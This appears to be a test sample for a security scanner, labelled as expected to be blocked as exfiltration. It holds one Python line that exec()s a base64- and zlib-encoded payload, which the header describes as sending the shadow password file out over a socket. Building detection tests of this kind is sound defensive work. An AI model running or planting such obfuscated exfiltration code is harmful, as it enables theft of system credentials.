# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/shadow_over_socket.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJxNjrEOwjAMRPd8hRUWR0JpS6cOTP0BJNiRSSxREeIqiejvk4oM3ObTPd8d4MrRZ+i4uC4/ycsG8uEEBIk2uM0XyOJeXKxa3quk0k6lPBWCM8jKEfUfro+g00Mbm5g8GrXna659cdUtfHcSI7uySETUp360vR2G0U4VnqrMD7O5bqMQcO9qlguSGc0XoU86rg==')))
